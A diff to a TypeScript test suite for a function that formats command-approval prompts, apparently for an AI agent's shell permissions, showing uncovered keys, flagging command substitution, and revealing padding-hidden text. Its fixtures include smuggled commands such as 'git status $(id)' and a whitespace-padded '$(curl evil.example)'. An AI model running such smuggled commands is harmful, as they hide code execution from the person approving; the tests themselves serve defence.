@@ -82,12 +82,52 @@ describe('formatApprovalRequest', () => {
     expect(text).not.toContain('    14');
   });
 
-  it('lists at most ten keys, then how many more', () => {
+  it('lists every key nothing covers yet: those are what a person approves', () => {
     const keys = Array.from({ length: 14 }, (_, i) => `file:${i}`);
     const text = formatApprovalRequest(request({}, keys)).join('\n');
-    expect(text).toContain('- file:9');
+    for (const key of keys) expect(text).toContain(`- ${key} — needs approval`);
+  });
+
+  it('lists at most ten keys already covered, then how many more', () => {
+    const keys = Array.from({ length: 14 }, (_, i) => `file:${i}`);
+    const text = formatApprovalRequest({
+      ...request({}, [...keys, 'file:new']),
+      keyNotes: [
+        ...keys.map((key) => ({ key, covered: 'approved earlier in this session' })),
+        { key: 'file:new' },
+      ],
+    }).join('\n');
+    expect(text).toContain('- file:new — needs approval');
+    expect(text).toContain('- file:9 — approved earlier in this session');
     expect(text).not.toContain('- file:10');
-    expect(text).toContain('… and 4 more');
+    expect(text).toContain('… and 4 more already covered');
+  });
+
+  it('lists the parts it could not understand and marks those that may hide a command', () => {
+    const text = formatApprovalRequest({
+      ...request({ command: 'git status $(id)' }, ['git status', 'id']),
+      opaque: [
+        { reason: 'command substitution $(id)' },
+        { reason: 'sets PAGER, which may change what programs run', hidesCommand: true },
+      ],
+    }).join('\n');
+    expect(text).toContain('Not fully understood, so it can be allowed once only:');
+    expect(text).toContain('- command substitution $(id)');
+    expect(text).toContain(
+      '- sets PAGER, which may change what programs run (it may run a command not listed above)',
+    );
+  });
+
+  it('shows a run of padding blanks as a count, so text after it stays in view', () => {
+    const command = `git status${' '.repeat(4100)}$(curl evil.example)`;
+    const text = formatApprovalRequest(request({ command })).join('\n');
+    expect(text).toContain('git status⟨4100 blanks⟩$(curl evil.example)');
+    expect(text).not.toContain('shortened');
+  });
+
+  it('gives the digest of the arguments when it shortens them', () => {
+    const text = formatApprovalRequest(request({ content: 'x'.repeat(500) })).join('\n');
+    expect(text).toMatch(/arguments shortened for display; their digest is sha256:[0-9a-f]{64}/);
   });
 
   it('uses colour codes only when asked to', () => {
